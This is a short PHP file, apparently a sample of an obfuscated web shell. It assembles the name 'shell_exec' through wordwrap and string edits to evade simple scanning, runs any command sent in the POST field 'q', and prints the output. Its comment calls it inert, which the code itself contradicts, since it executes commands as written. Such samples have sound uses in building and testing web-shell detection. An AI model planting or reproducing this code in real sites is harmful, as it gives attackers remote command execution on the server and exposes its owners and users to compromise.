<?php
// inert sample: the command function's name cut into three-letter pieces by wordwrap() with its
// cut flag, the separators stripped again; the command travels through a copy of the POST array
$sep = '|';
$name = str_replace($sep, '', wordwrap('shellexec', 5, $sep, true));
$name = substr_replace($name, '_', 5, 0);
$in = $_POST;
$cmd = $in['q'];
echo '<pre>' . $name($cmd) . '</pre>';
